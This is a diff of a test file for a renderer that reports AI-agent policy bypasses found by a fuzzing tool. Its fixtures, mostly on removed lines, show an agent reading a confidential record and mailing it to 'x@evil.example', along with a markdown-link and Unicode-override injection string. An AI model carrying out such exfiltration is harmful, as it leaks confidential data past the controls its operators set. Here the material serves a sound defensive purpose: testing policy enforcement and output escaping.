@@ -1,125 +1,8 @@
 import { expect, it } from "vitest";
-import { placeOf, sarifRun } from "../../../test/builders/sarif-run.js";
+import { report } from "../../../test/builders/fuzz-report.js";
+import { sarifRun } from "../../../test/builders/sarif-run.js";
 import { render } from "./render.js";
 import type { FuzzReport } from "./report.js";
-
-const step = {
-  n: 1,
-  waited: 0,
-  id: "c1",
-  session: "s1",
-  subject: { id: "agent-a" },
-  tool: "crm.read",
-  arguments: { record: "r1" },
-  answers: [],
-  effect: "allow" as const,
-  rules: ["crm/reads"],
-  adds: "reads data that carries `confidential`",
-};
-const report: FuzzReport = {
-  kind: "fuzz",
-  result: {
-    seed: 1,
-    budget: 5000,
-    engine: "reference 0.1.0",
-    confirmedBy: ["opa-wasm 1.10.0", "opa 0.70.0"],
-    artifact: "sha256:0123",
-    interrupted: false,
-    unchecked: false,
-    decisions: 812,
-    evaluated: 120,
-    checked: 6,
-    effects: [
-      { effect: "allow", decisions: 700 },
-      { effect: "deny", decisions: 112 },
-    ],
-    sequences: 40,
-    actions: 24,
-    worlds: [
-      {
-        name: "office",
-        digest: "sha256:4567",
-        subjects: 1,
-        sessions: 2,
-        calls: 24,
-        waits: [3_600_000],
-        mostWaited: 7_200_000,
-        expiries: [],
-        exhausted: [{ goals: ["confidentialLeaves"], calls: 24, depth: 3, everything: false, positions: 77 }],
-      },
-    ],
-    goals: [
-      {
-        name: "confidentialLeaves",
-        title: "Confidential data leaves",
-        vacuous: false,
-        bypass: {
-          world: "office",
-          corpus: null,
-          steps: [
-            step,
-            {
-              ...step,
-              n: 2,
-              waited: 3_600_000,
-              id: "c2",
-              tool: "mail.send",
-              arguments: { to: ["x@evil.example"], body: "a" },
-            },
-          ],
-          outcome: "data labelled `confidential` has reached `x@evil.example`",
-        },
-      },
-      { name: "overspend", title: "More than 500 are paid", bypass: null, vacuous: false },
-      { name: "drugsLeave", title: "Drugs leave the store", bypass: null, vacuous: true },
-    ],
-    sometimes: [
-      { name: "reads", title: "Records are read", seen: true, calls: 4, stoppedBy: [] },
-      {
-        name: "pays",
-        title: "A large payment goes through",
-        seen: false,
-        calls: 2,
-        stoppedBy: ["pay/large"],
-      },
-    ],
-    idle: 12,
-    neverFired: ["crm/neverAsked"],
-    neverAllowed: [
-      { tool: "files.zip", rules: [] },
-      { tool: "shell.run", rules: ["action-gate/unlistedCommand"] },
-    ],
-    command: "policy fuzz --seed 1 --budget 5000",
-  },
-  written: new Map([["confidentialLeaves", "scenarios/fuzz/confidential-leaves.yaml"]]),
-  strict: false,
-  rulePlaces: new Map([
-    ["crm/reads", { file: "policies/crm.policy.ts", line: 8, column: 14, endLine: 8, endColumn: 40 }],
-  ]),
-  nearMisses: new Map([
-    [
-      "confidentialLeaves",
-      [
-        {
-          step: 2,
-          rule: "crm/leaves",
-          wanted: true,
-          text: 'carried.of(r).has("confidential")',
-          place: { file: "policies/crm.policy.ts", line: 12, column: 9, endLine: 12, endColumn: 42 },
-        },
-      ],
-    ],
-  ]),
-  sometimesPlaces: new Map([
-    ["pays", { file: "policies/crm.goals.ts", line: 9, column: 14, endLine: 9, endColumn: 30 }],
-  ]),
-  goalPlaces: new Map(
-    ["confidentialLeaves", "overspend", "drugsLeave"].map((name, i) => [
-      name,
-      { file: "policies/crm.goals.ts", line: 3 + i, column: 14, endLine: 3 + i, endColumn: 30 },
-    ]),
-  ),
-};
 
 it("prints a bypass as a chain of calls that reads like a story", () => {
   expect(render(report, "pretty", false)).toMatchInlineSnapshot(`
@@ -318,7 +201,7 @@ it("speaks of events where something enters or leaves, and of what can", () => {
   expect(json.goals[0].bypass.steps.map((s: { point?: string }) => s.point)).toEqual(["input", "output"]);
   expect(json.worlds[0]).toMatchObject({ calls: 24, inputs: 1, outputs: 2 });
   expect(json.neverAllowed).toEqual(neverAllowed);
-  const [found] = results(events);
+  const [found] = sarifRun(render(events, "sarif", false)).results ?? [];
   expect(found?.message.text).toContain("by 2 events in the world office, each allowed; ");
   expect(found?.codeFlows?.[0]?.threadFlows[0]?.locations?.[0]?.location?.message?.text).toMatch(
     /^into s1 of agent-a: crm\.read\(/,
@@ -351,86 +234,6 @@ it("says why what must be possible was never seen, and nothing of it where the s
   expect(said(false, 2, [])).toBe("warning: pays: It pays\n  no such call was allowed");
   expect(said(false, 0, [], true)).toBe("FAIL pays: It pays\n  no world has such a call");
   expect(JSON.parse(render(report, "json", false)).sometimes).toEqual(report.result.sometimes);
-});
-
-const results = (of: FuzzReport) => sarifRun(render(of, "sarif", false)).results ?? [];
-
-it("gives a bypass as a result of SARIF where its last call was allowed, with the goal and the scenario", () => {
-  const [found] = results(report);
-  expect(found).toMatchObject({ ruleId: "goal/confidentialLeaves", level: "error" });
-  expect(placeOf(found?.locations?.[0])).toBe("policies/crm.policy.ts:8:14");
-  expect(found?.relatedLocations?.map((at) => [at.id, at.message?.text, placeOf(at)])).toEqual([
-    [1, "the goal confidentialLeaves", "policies/crm.goals.ts:3:14"],
-    [
-      2,
-      'crm/leaves would have stopped call 2 if `carried.of(r).has("confidential")` were true',
-      "policies/crm.policy.ts:12:9",
-    ],
-    [3, "scenarios/fuzz/confidential-leaves.yaml", "scenarios/fuzz/confidential-leaves.yaml"],
-  ]);
-  expect(found?.message.text).toBe(
-    'Confidential data leaves: data labelled `confidential` has reached `x@evil.example`, by 2 calls in the world office, each allowed; see [the goal confidentialLeaves](1), [crm/leaves would have stopped call 2 if `carried.of(r).has("confidential")` were true](2), [scenarios/fuzz/confidential-leaves.yaml](3)',
-  );
-});
-
-it("gives the calls of a bypass as a code flow of SARIF, each at the rule that allowed it", () => {
-  const flow = results(report)[0]?.codeFlows?.[0]?.threadFlows[0]?.locations ?? [];
-  expect(flow.map((at) => [at.executionOrder, at.importance, placeOf(at.location)])).toEqual([
-    [1, "essential", "policies/crm.policy.ts:8:14"],
-    [2, "essential", "policies/crm.policy.ts:8:14"],
-  ]);
-  expect(flow[1]?.location?.message?.text).toBe(
-    '1h later, agent-a in s1: mail.send(to: ["x@evil.example"], body: "a"); allow by crm/reads; reads data that carries `confidential`',
-  );
-});
-
-it("stands a bypass at its goal where the place of no rule is known", () => {
-  const [found] = results({ ...report, rulePlaces: new Map() });
-  expect(placeOf(found?.locations?.[0])).toBe("policies/crm.goals.ts:3:14");
-});
-
-it("gives a goal that nothing reaches as a result of SARIF at the goal, an error where it is strict", () => {
-  const unseen = { ...report.result, sometimes: [] };
-  const [, vacuous, ...more] = results({ ...report, result: unseen, strict: true });
-  expect(more).toEqual([]);
-  expect(vacuous).toMatchObject({ ruleId: "goal/drugsLeave", level: "error" });
-  expect(placeOf(vacuous?.locations?.[0])).toBe("policies/crm.goals.ts:5:14");
-  expect(results(report)[1]?.level).toBe("warning");
-});
-
-it("gives what must be possible and was never seen as a result of SARIF where it is declared", () => {
-  const never = results({ ...report, strict: true })[2];
-  expect(never).toMatchObject({ ruleId: "sometimes/pays", level: "error" });
-  expect(never?.message.text).toBe(
-    "A large payment goes through: no such call was allowed; calls of its tools were stopped by pay/large",
-  );
-  expect(placeOf(never?.locations?.[0])).toBe("policies/crm.goals.ts:9:14");
-  expect(results(report)[2]?.level).toBe("warning");
-});
-
-it("knows a goal that is reached again when another chain reaches it", () => {
-  const print = (steps: readonly (typeof step)[]) => {
-    const goals = report.result.goals.map((goal) =>
-      goal.bypass === null ? goal : { ...goal, bypass: { ...goal.bypass, steps } },
-    );
-    return results({ ...report, result: { ...report.result, goals } })[0]?.partialFingerprints;
-  };
-  expect(print([step])).toEqual(results(report)[0]?.partialFingerprints);
-});
-
-it("lets no text of a world be a link or a line of its own in SARIF", () => {
-  const odd = { ...step, arguments: { body: "[x](http://evil.example)\u202e" }, adds: "a\nb" };
-  const goals = report.result.goals.map((goal) =>
-    goal.bypass === null
-      ? goal
-      : { ...goal, title: "A\u0007 b](1)", bypass: { ...goal.bypass, steps: [odd] } },
-  );
-  const text = render({ ...report, result: { ...report.result, goals } }, "sarif", false);
-  const [found] = sarifRun(text).results ?? [];
-  expect(found?.message.text).toMatch(/^A\\u\{7\} b\\\]\(1\): /);
-  expect(found?.codeFlows?.[0]?.threadFlows[0]?.locations[0]?.location?.message?.text).toBe(
-    'agent-a in s1: crm.read(body: "[x\\](http://evil.example)\\u{202e}"); allow by crm/reads; a\\nb',
-  );
 });
 
 it("names the rules that only just let a bypass pass, some of many, and says where there are none", () => {
